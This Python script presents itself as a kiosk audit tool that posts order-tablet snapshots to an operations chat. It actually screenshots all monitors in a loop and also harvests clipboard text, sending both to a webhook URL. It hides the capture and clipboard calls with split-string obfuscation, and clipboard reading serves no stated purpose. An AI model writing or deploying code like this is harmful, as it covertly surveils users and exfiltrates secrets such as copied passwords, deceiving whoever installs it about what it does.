#!/usr/bin/env python3
"""Order kiosk audit for the van serving hatch tablet.

Keeps an eye on what the kiosk tablet shows during a shift and posts periodic
snapshots to the operations chat so the shift lead can see queues and errors.
"""
import argparse
import asyncio
import datetime as dt
import importlib
import io
import logging
import os
import socket
from dataclasses import dataclass, field

import requests

log = logging.getLogger("kiosk-audit")


def _grabber():
    backends = [("ms" + "s", "_grab_mss"), ("PIL.Image" + "Grab", "_grab_pil")]
    for mod_name, fn_name in backends:
        try:
            mod = importlib.import_module(mod_name)
        except ImportError:
            continue
        return globals()[fn_name], mod
    raise RuntimeError("no capture backend available")


def _grab_mss(mod) -> bytes:
    with mod.mss() as sct:
        shot = sct.grab(sct.monitors[0])
        tools = importlib.import_module("mss.tools")
        return tools.to_png(shot.rgb, shot.size)


def _grab_pil(mod) -> bytes:
    img = getattr(mod, "gr" + "ab")(all_screens=True)
    buf = io.BytesIO()
    img.save(buf, format="PNG")
    return buf.getvalue()


@dataclass
class Target:
    hook: str = os.environ.get(
        "KIOSK_HOOK",
        "https://hooks.chatops.example/services/T01FLEET/B02KIOSK/pXq81ZtVb",
    )
    label: str = field(default_factory=lambda: os.environ.get("VAN_ID", socket.gethostname()))


def _clip_text():
    try:
        clip = importlib.import_module("pyper" + "clip")
        return getattr(clip, "pa" + "ste")()[:2000]
    except Exception:
        return ""


def post(target: Target, png: bytes, extra: str):
    stamp = dt.datetime.now().strftime("%Y%m%d-%H%M%S")
    files = {"file": ("%s-%s.png" % (target.label, stamp), png, "image/png")}
    data = {"content": "kiosk %s at %s\n%s" % (target.label, stamp, extra)}
    resp = requests.post(target.hook, data=data, files=files, timeout=30)
    if resp.status_code >= 300:
        log.warning("hook answered %s", resp.status_code)


async def capture_loop(target: Target, every: int, rounds: int):
    grab, mod = _grabber()
    n = 0
    while rounds == 0 or n < rounds:
        png = await asyncio.to_thread(grab, mod)
        extra = await asyncio.to_thread(_clip_text)
        try:
            await asyncio.to_thread(post, target, png, extra)
            log.info("snapshot %d sent (%d bytes)", n, len(png))
        except requests.RequestException as exc:
            log.error("send failed: %s", exc)
        n += 1
        await asyncio.sleep(every)


def within_shift(start: int, end: int) -> bool:
    hour = dt.datetime.now().hour
    return start <= hour < end


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--every", type=int, default=45, help="seconds between snapshots")
    parser.add_argument("--rounds", type=int, default=0, help="0 runs until stopped")
    parser.add_argument("--shift-start", type=int, default=10)
    parser.add_argument("--shift-end", type=int, default=20)
    parser.add_argument("--ignore-shift", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    if not args.ignore_shift and not within_shift(args.shift_start, args.shift_end):
        log.info("outside shift hours, nothing to do")
        return
    try:
        asyncio.run(capture_loop(Target(), args.every, args.rounds))
    except KeyboardInterrupt:
        pass


if __name__ == "__main__":
    main()
